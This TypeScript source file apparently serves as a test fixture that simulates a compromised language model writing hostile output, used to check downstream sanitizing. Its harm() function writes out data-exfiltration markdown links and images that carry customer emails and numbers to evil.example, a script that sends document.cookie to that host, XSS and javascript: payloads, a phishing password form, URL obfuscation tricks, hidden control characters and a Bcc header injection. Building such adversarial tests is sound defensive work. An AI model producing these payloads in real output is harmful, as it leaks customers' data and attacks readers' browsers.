/** A writer that always tries to harm its reader, in every way that is known to have worked. */
import type { Prompt } from '../prompt.ts';
import { writeWith } from './decorate.ts';
import { writeHonestly } from './honest.ts';
import { pickDegree } from './judgment.ts';
import { type Material, readMaterial } from './material.ts';

/** The host of every link and address it adds. Reserved by RFC 2606, so that nothing is ever sent there. */
export const STRANGER = 'evil.example';
const MAX_SECRETS = 300;

export function writePossessed(prompt: Prompt): string {
  if (prompt.format.type === 'text') {
    return harm(writeHonestly(prompt), secretsOf(prompt));
  }
  return writeWith(prompt, (honest, material) => {
    const secrets = secretsOf(prompt, material);
    return {
      choice(place, words) {
        if (/urgen|priorit|importan/i.test(place.name)) return pickDegree(words, 1);
        if (/risk|threat|danger/i.test(place.name)) return pickDegree(words, 0);
        return honest.choice(place, words);
      },
      flag: () => true,
      // An id that is not in the prompt: a mail of another customer, or none.
      number: (place) => (/(?:^|_)id$/i.test(place.name) ? foreignId(material, place.index) : 9_999_999),
      count: (place) => Math.max(honest.count(place), 2),
      text(place) {
        if (/(?:^|_)ids?$/i.test(place.name)) return String(foreignId(material, place.index));
        if (/^(?:to|cc|bcc|address|email|from_address|recipient)s?$/i.test(place.name))
          return `thief@${STRANGER}`;
        if (/lang/i.test(place.name)) return honest.text(place);
        if (/due|start|end|date/i.test(place.name)) return '1970-01-01T00:00:00Z';
        return harm(honest.text(place) ?? '', secrets);
      },
    };
  });
}

/** Returns an id close to those in the prompt, but never one of them. */
function foreignId({ ids }: Material, index: number): number {
  return Math.max(0, ...ids) + 1 + index;
}

/** Returns the customer data in the prompt: addresses and long numbers. */
function secretsOf(prompt: Prompt, material = readMaterial(prompt)): string {
  const numbers = material.mail.match(/\b\d{4,16}\b/g) ?? [];
  const addresses = material.people.map(({ address }) => address);
  return [...addresses, ...numbers.slice(0, 20)].join(' ').slice(0, MAX_SECRETS);
}

export function harm(text: string, secrets: string): string {
  const query = encodeURIComponent(secrets);
  return [
    text,
    `Known customers: ${secrets}`,
    `[Pay your invoice here](https://${STRANGER}/pay?d=${query}) or see [the details][1] and [this][].`,
    `![logo](https://${STRANGER}/logo.png?d=${query}) ![status][2]`,
    `<a href="https://${STRANGER}/a?d=${query}">your account</a> <img src="https://${STRANGER}/i.gif?d=${query}">`,
    `https://${STRANGER}/bare?d=${query} //${STRANGER}/relative www.${STRANGER}/www ${STRANGER}/naked hxxps://${STRANGER}`,
    `https://herald.test@${STRANGER}/userinfo https://${STRANGER}%2Eherald.test/ https://ev\u200bil.example/zero-width`,
    `<https://${STRANGER}/autolink> <thief@${STRANGER}> mailto:thief@${STRANGER}?bcc=boss@${STRANGER} thief@${STRANGER}`,
    `<script>fetch("https://${STRANGER}/x?d=" + document.cookie)</script><svg onload="alert(1)"></svg>`,
    '[click](javascript:alert(1)) <iframe srcdoc="<script>alert(1)</script>"></iframe> <style>*{display:none}</style>',
    `<form action="https://${STRANGER}/f"><input name="password"></form> data:text/html,<script>alert(1)</script>`,
    'Hidden\u0000control\u0007\u001b[31m\u007f zero\u200bwidth\u200c\u200d\ufeff \u202eright-to-left\u202c \u{e0041}\u{e0042}tag\u2028line\r\nBcc: header',
    '[inbox]: /api/inboxes "title"',
    `[1]: https://${STRANGER}/reference?d=${query}`,
    `[2]: <https://${STRANGER}/status.png?d=${query}> "t"`,
    `[this]: https://${STRANGER}/collapsed`,
  ].join('\n');
}
